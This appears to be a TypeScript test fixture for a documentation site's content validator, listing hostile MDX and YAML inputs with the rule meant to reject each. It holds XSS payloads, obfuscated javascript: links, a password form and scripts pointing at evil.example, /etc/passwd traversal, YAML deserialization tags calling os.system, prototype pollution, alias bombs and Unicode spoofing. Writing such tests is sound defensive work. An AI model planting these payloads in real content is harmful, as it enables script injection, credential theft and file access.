/** Something that an author, or somebody in an author's name, puts into `content/` to run code or to reach files. */
export interface Hostile {
  name: string;
  /** What it tries. */
  tries: string;
  /** The file, below content/. */
  file: string;
  /** Text that takes the place of the body. */
  body?: string;
  /** A change of the front matter or the YAML. */
  change?: [from: RegExp, to: string];
  /** The whole of the file. */
  whole?: string | Buffer;
  /** The rule that refuses it. */
  code: string;
}

const action = 'actions/read-ten-return-slips.mdx';
const source = 'sources.yaml';
const body = (name: string, tries: string, text: string, code: string): Hostile => ({ name, tries, file: action, body: text, code });
const field = (name: string, tries: string, from: RegExp, to: string, code: string, file = action): Hostile => ({
  name,
  tries,
  file,
  change: [from, to],
  code,
});
const title = /^title: .*$/m;

export const hostile: Hostile[] = [
  body('import', 'to load a module', "import fs from 'node:fs'\n\nText.", 'body/code'),
  body('import of a file by a relative path', 'to load a file of the machine', "import x from '../../../etc/passwd'\n\nText.", 'body/code'),
  body('export', 'to run code when the page is made', 'export const x = globalThis.process.exit(1)\n\nText.', 'body/code'),
  body('export of everything', 'to load a module', "export * from 'node:child_process'\n\nText.", 'body/code'),
  body('expression in a paragraph', 'to run code', 'Text {globalThis.pwned = 1} text.', 'body/code'),
  body('expression of its own', 'to run code', '{(() => { globalThis.pwned = 1 })()}', 'body/code'),
  body('dynamic import in an expression', 'to load a module', "{await import('node:fs')}", 'body/code'),
  body('expression in an attribute', 'to run code', '<Callout kind={globalThis.pwned = 1}>Text.</Callout>', 'body/code'),
  body('spread in attributes', 'to run code', '<Callout {...globalThis}>Text.</Callout>', 'body/component'),
  body('set:html', 'to write raw HTML', '<Callout kind="note" set:html="<script>alert(1)</script>">Text.</Callout>', 'body/component'),
  body('client directive', 'to ship a component', '<Callout kind="note" client:load>Text.</Callout>', 'body/component'),
  body(
    'event handler on a component',
    'to run a script in the browser',
    '<Callout kind="note" onclick="alert(1)">Text.</Callout>',
    'body/component',
  ),
  body('script', 'to run a script in the browser', '<script>alert(1)</script>', 'body/component'),
  body('script from elsewhere', 'to load a script', '<script src="https://evil.example/x.js"></script>', 'body/component'),
  body('iframe', 'to show another site', '<iframe src="https://evil.example"></iframe>', 'body/component'),
  body('object', 'to load a plug-in', '<object data="data:text/html,x"></object>', 'body/component'),
  body('embed', 'to load a plug-in', '<embed src="https://evil.example" />', 'body/component'),
  body('svg with a handler', 'to run a script in the browser', '<svg onload="alert(1)"></svg>', 'body/component'),
  body('svg with a script', 'to run a script in the browser', '<svg><script>alert(1)</script></svg>', 'body/component'),
  body('math', 'to mislead the parser of the browser', '<math><mtext></mtext></math>', 'body/component'),
  body('img with a handler', 'to run a script in the browser', '<img src="x" onerror="alert(1)" />', 'body/component'),
  body('style', 'to restyle the page', '<style>body { display: none }</style>', 'syntax/mdx'),
  body('base', 'to turn every link elsewhere', '<base href="https://evil.example/" />', 'body/component'),
  body(
    'meta refresh',
    'to send the reader elsewhere',
    '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
    'body/component',
  ),
  body(
    'form',
    'to send what the reader types elsewhere',
    '<form action="https://evil.example"><input name="password" /></form>',
    'body/component',
  ),
  body('link element', 'to load a style sheet', '<link rel="stylesheet" href="https://evil.example/x.css" />', 'body/component'),
  body('unknown component', 'to reach a component of the site', '<Page title="x">Text.</Page>', 'body/component'),
  body('member component', 'to reach into an object', '<globalThis.process.exit />', 'body/component'),
  body('constructor as a component', 'to reach a prototype', '<constructor />', 'body/component'),
  body('__proto__ as a component', 'to reach a prototype', '<__proto__ />', 'body/component'),
  body('javascript: link', 'to run a script on a click', '[text](javascript:alert(1))', 'body/link'),
  body('javascript: link in capitals', 'to run a script on a click', '[text](JaVaScRiPt:alert(1))', 'body/link'),
  body('javascript: link with an entity', 'to run a script on a click', '[text](&#106;avascript:alert(1))', 'body/link'),
  body('javascript: link with a tab', 'to run a script on a click', '[text](<java\tscript:alert(1)>)', 'body/link'),
  body('javascript: link by reference', 'to run a script on a click', '[text][x]\n\n[x]: javascript:alert(1)', 'body/link'),
  body('javascript: autolink', 'to run a script on a click', 'See [<b>](javascript:alert`1`).'.replace('<b>', 'b'), 'body/link'),
  body('vbscript: link', 'to run a script on a click', '[text](vbscript:msgbox(1))', 'body/link'),
  body('data: link', 'to show a page of its own', '[text](data:text/html,<script>alert(1)</script>)', 'body/link'),
  body('file: link', 'to open a file of the reader', '[text](file:///etc/passwd)', 'body/link'),
  body('blob: link', 'to open what a script made', '[text](blob:https://playbook.example/x)', 'body/link'),
  body('link without a scheme to another host', 'to lead elsewhere unseen', '[text](//evil.example/)', 'body/link'),
  body('link with backslashes to another host', 'to lead elsewhere unseen', '[text](/\\\\evil.example/)', 'body/link'),
  body('../ link', 'to leave the site', '[text](/roles/../../../etc/passwd)', 'body/link'),
  body('relative link', 'to leave the folder', '[text](../../secret)', 'body/link'),
  body('data: picture', 'to carry a script in an SVG', '![text](data:image/svg+xml;base64,PHN2Zy8+)', 'body/link'),
  body('picture from elsewhere', 'to watch readers', '![text](https://evil.example/pixel.png)', 'body/image'),
  body('../ picture', 'to publish a file of the machine', '![text](../../../etc/passwd)', 'body/image'),
  body('unclosed tag', 'to break the page', '<Callout kind="note">Text.', 'syntax/mdx'),
  field('YAML tag for a function', 'to run code', title, 'title: !!js/function "function () { process.exit() }"', 'syntax/yaml'),
  field(
    'YAML tag for an object',
    'to make an object of the machine',
    title,
    'title: !!python/object/apply:os.system ["id"]',
    'syntax/yaml',
  ),
  field('YAML tag of its own', 'to make an object', title, 'title: !exec id', 'syntax/yaml'),
  field('YAML alias', 'to repeat a value', title, 'title: &a Read ten return slips\nowner: *a', 'syntax/yaml'),
  {
    name: 'alias bomb',
    tries: 'to fill the memory',
    file: action,
    whole: `---\na: &a [x, x, x, x, x, x, x, x, x]\n${'bcdefghi'
      .split('')
      .map((letter, index) => `${letter}: &${letter} [${Array(9).fill(`*${'abcdefghi'[index]}`).join(', ')}]`)
      .join('\n')}\n---\nText.\n`,
    code: 'syntax/yaml',
  },
  field('merge key', 'to take fields from elsewhere', title, 'title: Read ten return slips\n<<: {owner: x}', 'schema/unknown-field'),
  field(
    '__proto__ as a field',
    'to change every object',
    title,
    'title: Read ten return slips\n__proto__: {polluted: true}',
    'schema/unknown-field',
  ),
  field(
    'constructor as a field',
    'to change every object',
    title,
    'title: Read ten return slips\nconstructor: {prototype: {polluted: true}}',
    'schema/unknown-field',
  ),
  field('the same field twice', 'to hide one value behind another', title, 'title: One\ntitle: Two', 'syntax/yaml'),
  field(
    'second document in a file',
    'to hide one value behind another',
    title,
    'title: Read ten return slips\n...\nx: 1',
    'syntax/yaml',
    'skills/listening.yaml',
  ),
  field(
    'javascript: address of a source',
    'to run a script on a click',
    /^ {2}url: .*$/m,
    '  url: javascript:alert(1)',
    'schema/format',
    source,
  ),
  field('data: address of a source', 'to show a page of its own', /^ {2}url: .*$/m, '  url: data:text/html,x', 'schema/format', source),
  field(
    'address of a page that leaves the site',
    'to lead elsewhere',
    /^ {2}page: .*$/m,
    '  page: //evil.example/',
    'schema/format',
    'glossary.yaml',
  ),
  field('../ as an id', 'to write outside the site', /^lead: .*$/m, 'lead: ../../etc/passwd', 'reference/unknown'),
  field('__proto__ as an id', 'to reach a prototype', /^lead: .*$/m, 'lead: __proto__', 'reference/unknown'),
  field('constructor as an id', 'to reach a prototype', /^lead: .*$/m, 'lead: constructor', 'reference/unknown'),
  field('Cyrillic letter in an id', 'to pass for another entry', /^lead: .*$/m, 'lead: service-mаnager', 'syntax/look-alike'),
  field(
    'style sheet in a colour',
    'to restyle the site',
    /^ {2}accent: .*$/m,
    "  accent: 'red;} body { display: none } /*'",
    'schema/format',
    'playbook.yaml',
  ),
  field(
    'markup in the logo',
    'to run a script in every page',
    /^licence: /m,
    `logo:\n  viewBox: 0 0 32 32\n  path: 'M0 0"/><script>alert(1)</script><path d="'\nlicence: `,
    'schema/format',
    'playbook.yaml',
  ),
  field(
    'markup in the language',
    'to break out of an attribute',
    /^language: .*$/m,
    `language: 'en"><script>alert(1)</script>'`,
    'schema/format',
    'playbook.yaml',
  ),
  field(
    'javascript: as the site’s address',
    'to run a script on a click',
    /^address: .*$/m,
    'address: javascript:alert(1)',
    'schema/format',
    'playbook.yaml',
  ),
  field(
    'text that turns its direction',
    'to show another text than is written',
    title,
    'title: Read ten return slips \u202Espils',
    'syntax/invisible',
  ),
  body(
    'body that turns its direction',
    'to show another text than is written',
    'Pay \u2066only\u2069 \u202Eyllaer\u202C.',
    'syntax/invisible',
  ),
  field('letters without width', 'to pass for another entry', title, 'title: Read\u200B ten return slips', 'syntax/invisible'),
  {
    name: 'NUL bytes',
    tries: 'to cut a text short',
    file: action,
    change: [title, 'title: "Read\u0000 ten return slips"'],
    code: 'syntax/encoding',
  },
  {
    name: 'bytes that are no UTF-8',
    tries: 'to mislead a parser',
    file: action,
    whole: Buffer.from([0x2d, 0x2d, 0x2d, 0x0a, 0xff, 0xfe, 0x00, 0x0a]),
    code: 'syntax/encoding',
  },
  {
    name: 'UTF-16',
    tries: 'to mislead a parser',
    file: action,
    whole: Buffer.from('\uFEFF---\ntitle: x\n---\nText.', 'utf16le'),
    code: 'syntax/encoding',
  },
  {
    name: 'file name with capitals',
    tries: 'to replace another file where names have no case',
    file: 'actions/Read-Ten-Return-Slips.mdx',
    whole: '---\ntitle: x\n---\nText.\n',
    code: 'file/copy',
  },
  {
    name: 'file name with a Cyrillic letter',
    tries: 'to pass for another entry',
    file: 'actions/reаd-ten-return-slips.mdx',
    whole: '---\ntitle: x\n---\nText.\n',
    code: 'file/copy',
  },
  {
    name: 'file name with a percent sign',
    tries: 'to write outside the site',
    file: 'actions/%2e%2e%2fx.mdx',
    whole: '---\ntitle: x\n---\nText.\n',
    code: 'file/id',
  },
  {
    name: 'file outside the collections',
    tries: 'to be published unseen',
    file: 'pages/x.astro',
    whole: '---\n---\n<script>alert(1)</script>\n',
    code: 'file/misplaced',
  },
  {
    name: 'page in a collection',
    tries: 'to be built as a page',
    file: 'roles/x.astro',
    whole: '<script>alert(1)</script>\n',
    code: 'file/misplaced',
  },
  body('ten thousand quotes', 'to exhaust the parser', `${'>'.repeat(10_000)} x`, 'syntax/mdx'),
  body('ten thousand braces', 'to exhaust the parser', '{'.repeat(10_000), 'syntax/mdx'),
];
